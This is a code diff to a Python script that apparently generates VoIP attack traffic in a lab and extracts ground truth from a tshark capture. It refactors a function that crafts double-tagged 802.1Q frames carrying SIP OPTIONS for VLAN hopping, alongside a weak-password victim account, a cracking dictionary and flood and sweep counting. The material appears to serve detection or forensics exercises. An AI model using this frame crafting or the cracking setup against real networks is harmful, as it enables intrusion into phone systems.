@@ -57,7 +57,7 @@ VICTIM = HOST["ph3"]                     # the desk phone whose account is crack
 VICTIM_USER = VICTIM.user
 WEAK_PASSWORD = "summer2024"
 # Every account strong but the victim's (lab.USERS makes 1005 weak; here it is not).
-SITE_USERS = {u: (WEAK_PASSWORD if u == VICTIM_USER else f"Lab-{int(u) - 1000:02d}-kq7V!x{(int(u) - 1000) * 37 % 91:02d}")
+SITE_USERS = {u: WEAK_PASSWORD if u == VICTIM_USER else f"Lab-{int(u) - 1000:02d}-kq7V!x{(int(u) - 1000) * 37 % 91:02d}"
               for u in USERS}
 # svcrack's dictionary: 18 wrong guesses, then the hit.
 DICTIONARY = ("123456", "password", VICTIM_USER, "admin", "12345678", "qwerty", "letmein", "welcome", "111111",
@@ -239,25 +239,31 @@ def _options(n: int, kind: str) -> bytes:
             f"User-Agent: hop-probe\r\nContent-Length: 0\r\n\r\n").encode()
 
 
+def _double_tagged_frame(n: int) -> bytes:
+    """Ethernet to the proxy's MAC with two IEEE 802.1Q tags, outer = the data VLAN (the port's own),
+    inner = the voice VLAN, carrying an IPv4 (RFC 791) UDP (RFC 768: checksum over the pseudo-header)
+    datagram with a SIP OPTIONS to the proxy."""
+    src, dst = socket.inet_aton(DATA_HOST_IP), socket.inet_aton(KAMAILIO_IP)
+    payload = _options(n, "hop")
+    udp = struct.pack("!HHHH", 5060, 5060, 8 + len(payload), 0)
+    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_UDP, len(udp) + len(payload))
+    udp = udp[:6] + struct.pack("!H", _checksum(pseudo + udp + payload) or 0xFFFF)
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(payload), 0x4800 + n, 0, 64, socket.IPPROTO_UDP,
+                     0, src, dst)
+    ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
+    macs = bytes.fromhex(mac_for(KAMAILIO_IP).replace(":", "")) + bytes.fromhex(mac_for(DATA_HOST_IP).replace(":", ""))
+    tags = struct.pack("!HHHH", 0x8100, DATA_VLAN, 0x8100, VOICE_VLAN)
+    return macs + tags + struct.pack("!H", 0x0800) + ip + udp + payload
+
+
 def _vlan_hop(frames: int, options: int) -> None:
-    """Double-tagged frames (802.1Q outer = our access VLAN, inner = the voice VLAN) with a SIP OPTIONS
-    to the proxy, as a double-tagging hop sends them; then SIP OPTIONS routed to the proxy, answered."""
-    src_mac, dst_mac = bytes.fromhex(mac_for(DATA_HOST_IP).replace(":", "")), bytes.fromhex(
-        mac_for(KAMAILIO_IP).replace(":", ""))
+    """Double-tagged frames with a SIP OPTIONS to the proxy, as a double-tagging hop sends them (the
+    access port drops them); then SIP OPTIONS routed from the data VLAN to the proxy, answered."""
     sent = 0
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
         raw.bind(("eth0", 0))
         for n in range(1, frames + 1):
-            payload = _options(n, "hop")
-            udp = struct.pack("!HHHH", 5060, 5060, 8 + len(payload), 0)
-            pseudo = socket.inet_aton(DATA_HOST_IP) + socket.inet_aton(KAMAILIO_IP) + struct.pack("!BBH", 0, 17, len(udp) + len(payload))
-            udp = udp[:6] + struct.pack("!H", _checksum(pseudo + udp + payload) or 0xFFFF)
-            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(payload), 0x4800 + n, 0, 64, 17, 0,
-                             socket.inet_aton(DATA_HOST_IP), socket.inet_aton(KAMAILIO_IP))
-            ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
-            frame = (dst_mac + src_mac + struct.pack("!HH", 0x8100, DATA_VLAN) + struct.pack("!HH", 0x8100, VOICE_VLAN)
-                     + struct.pack("!H", 0x0800) + ip + udp + payload)
-            raw.send(frame)
+            raw.send(_double_tagged_frame(n))
             sent += 1
             time.sleep(0.2)
     answered = 0
@@ -278,9 +284,9 @@ def _vlan_hop(frames: int, options: int) -> None:
 
 # ---- the ground truth, from tshark -------------------------------------------------------------------
 FIELDS = ("frame.number", "frame.time_epoch", "vlan.id", "ip.src", "ip.dst", "ip.id", "udp.srcport", "udp.dstport",
-          "sip.Method", "sip.Status-Code", "sip.CSeq.seq", "sip.CSeq.method", "sip.Via.branch", "sip.Call-ID", "sip.from.user", "sip.to.user",
-          "sip.r-uri.user", "sip.Authorization", "sip.Contact", "sip.User-Agent", "sdp.connection_info.address",
-          "sdp.media.port", "udp.payload")
+          "sip.Method", "sip.Status-Code", "sip.CSeq.seq", "sip.CSeq.method", "sip.Via.branch", "sip.Call-ID",
+          "sip.from.user", "sip.to.user", "sip.r-uri.user", "sip.Authorization", "sip.Contact", "sip.User-Agent",
+          "sdp.connection_info.address", "sdp.media.port", "udp.payload")
 
 
 def tshark_sip(pcap: Path) -> list[dict]:
@@ -441,7 +447,8 @@ def ground_truth(pcap: Path) -> dict:
     out["flood"] = {"source": FLOODER_IP, "requests": len(flood), "methods": dict(Counter(r["method"] for r in flood)),
                     "first_t": flood[0]["t"] if flood else None, "last_t": flood[-1]["t"] if flood else None,
                     "span_s": round(flood[-1]["t"] - flood[0]["t"], 6) if flood else None,
-                    "answers": dict(sorted(Counter(str(r["status"]) for r in responses if r["dst"] == FLOODER_IP).items())),
+                    "answers": dict(sorted(Counter(str(r["status"]) for r in responses
+                                               if r["dst"] == FLOODER_IP).items())),
                     "accounts": dict(sorted(Counter(r["to_user"] for r in flood).items()))}
 
     # the sweep: OPTIONS from the attacker per destination, and the ICMP errors that answered some
@@ -460,9 +467,11 @@ def ground_truth(pcap: Path) -> dict:
     out["vlan_stacks"] = dict(sorted(Counter(stacks).items()))
     out["double_tagged_sip"] = [{"frame": r["frame"], "vlans": r["vlans"], "src": r["src"], "dst": r["dst"],
                                  "method": r["method"]} for r in rows if len(r["vlans"]) > 1]
-    out["sip_from_data_vlan"] = frames_and_packets([r for r in rows if r["src"] == DATA_HOST_IP and len(r["vlans"]) == 1],
+    out["sip_from_data_vlan"] = frames_and_packets([r for r in rows
+                                                    if r["src"] == DATA_HOST_IP and len(r["vlans"]) == 1],
                                                    lambda r: f"{r['method'] or r['status']} {r['src']}>{r['dst']}")
-    out["user_agents_by_source"] = {src: dict(sorted(Counter(r["user_agent"] for r in requests if r["src"] == src).items()))
+    out["user_agents_by_source"] = {src: dict(sorted(Counter(r["user_agent"] for r in requests
+                                                             if r["src"] == src).items()))
                                     for src in sorted({r["src"] for r in requests})}
     return out
 
